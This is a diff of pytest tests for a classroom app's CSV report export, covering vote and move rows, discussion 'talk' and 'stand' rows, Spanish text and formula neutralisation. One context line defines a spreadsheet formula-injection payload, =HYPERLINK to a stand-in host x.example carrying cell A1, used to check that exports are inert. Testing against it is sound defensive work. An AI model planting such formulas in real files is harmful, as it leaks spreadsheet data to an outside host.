@@ -7,8 +7,9 @@ from datetime import UTC, datetime, timedelta
 
 import pytest
 
-from explainer.classroom.report import COLUMNS, has_share, inert, read_report, report_csv
+from explainer.classroom.report import COLUMNS, NEEDS, has_share, inert, read_report, report_csv
 from explainer.classroom.room import Participant, Room
+from explainer.classroom.talk import HeldTalk
 from explainer.classroom.tally import Move
 from explainer.model.item import Item
 from explainer.storage.storage import Storage
@@ -117,11 +118,13 @@ def rows(text: str) -> list[dict[str, str]]:
 def test_the_csv_has_a_row_for_each_item_vote_and_option_and_for_each_move(
     storage: Storage, room: Room
 ) -> None:
-    ana, ben = people(storage, room, 2)
-    vote(storage, room, ITEM, [(ana, "wrong"), (ben, "right")], "open")
-    vote(storage, room, ITEM, [(ana, "right"), (ben, "right")], "open-again")
+    ana, *others = people(storage, room, NEEDS)
+    right = [(one, "right") for one in others]
+    vote(storage, room, ITEM, [(ana, "wrong"), *right], "open")
+    vote(storage, room, ITEM, [(ana, "right"), *right], "open-again")
     report = read_report(storage, room, ITEMS, on=DAY)
-    text = report_csv(replace(report, syntheses=("Both of us agree.",)))
+    held = HeldTalk("a-prompt", "four-corners", "move", 5, 1, {"agree": 3, "disagree": 1})
+    text = report_csv(replace(report, talks=(held,), syntheses=("Both of us agree.",)), "es")
     found = rows(text)
     assert tuple(found[0]) == COLUMNS
     votes = [
@@ -130,18 +133,38 @@ def test_the_csv_has_a_row_for_each_item_vote_and_option_and_for_each_move(
         if row["kind"] == "vote"
     ]
     assert votes == [
-        ("1", "right", "yes", "1", "2"),
-        ("1", "wrong", "no", "1", "2"),
-        ("1", "off", "no", "0", "2"),
-        ("2", "right", "yes", "2", "2"),
-        ("2", "wrong", "no", "0", "2"),
-        ("2", "off", "no", "0", "2"),
+        ("1", "right", "yes", "4", "5"),
+        ("1", "wrong", "no", "1", "5"),
+        ("1", "off", "no", "0", "5"),
+        ("2", "right", "yes", "5", "5"),
+        ("2", "wrong", "no", "0", "5"),
+        ("2", "off", "no", "0", "5"),
     ]
+    words = [(row["question"], row["text"]) for row in found if row["kind"] == "vote"][:3]
+    assert words == [(ITEM.stem.es, option.text.es) for option in ITEM.options]
     moved = [(row["before"], row["after"], row["people"]) for row in found if row["kind"] == "move"]
-    assert moved == [("right", "right", "1"), ("wrong", "right", "1")]
+    assert moved == [("right", "right", "4"), ("wrong", "right", "1")]
+    talks = [
+        (row["kind"], row["item"], row["option"], row["people"])
+        for row in found
+        if row["kind"] in ("talk", "stand")
+    ]
+    assert talks == [
+        ("talk", "a-prompt", "four-corners", "5"),
+        ("stand", "a-prompt", "agree", "3"),
+        ("stand", "a-prompt", "disagree", "1"),
+    ]
     assert [row["text"] for row in found if row["kind"] == "synthesis"] == ["Both of us agree."]
     assert {row["day"] for row in found} == {"2026-11-23"}
     assert "Alias" not in text and "token" not in text
+
+
+def test_who_moved_is_in_the_csv_only_where_the_report_tells_it(storage: Storage, room: Room) -> None:
+    few = people(storage, room, NEEDS - 1)
+    vote(storage, room, ITEM, [(one, "wrong") for one in few], "open")
+    vote(storage, room, ITEM, [(one, "right") for one in few], "open-again")
+    found = rows(report_csv(read_report(storage, room, ITEMS, on=DAY), "en"))
+    assert {row["kind"] for row in found} == {"vote"}
 
 
 HYPERLINK = '=HYPERLINK("http://x.example/?" & A1, "click")'
@@ -156,7 +179,7 @@ HYPERLINK = '=HYPERLINK("http://x.example/?" & A1, "click")'
 )
 def test_no_cell_begins_a_formula_in_any_spreadsheet(storage: Storage, room: Room, evil: str) -> None:
     tagged = replace(room, period=evil)
-    text = report_csv(replace(read_report(storage, tagged, ITEMS, on=DAY), syntheses=(evil,)))
+    text = report_csv(replace(read_report(storage, tagged, ITEMS, on=DAY), syntheses=(evil,)), "en")
     (row,) = rows(text)
     assert row["text"] == inert(evil) == row["period"]
     # Read with the semicolon as the separator, as where commas are for decimals, it is no formula either.
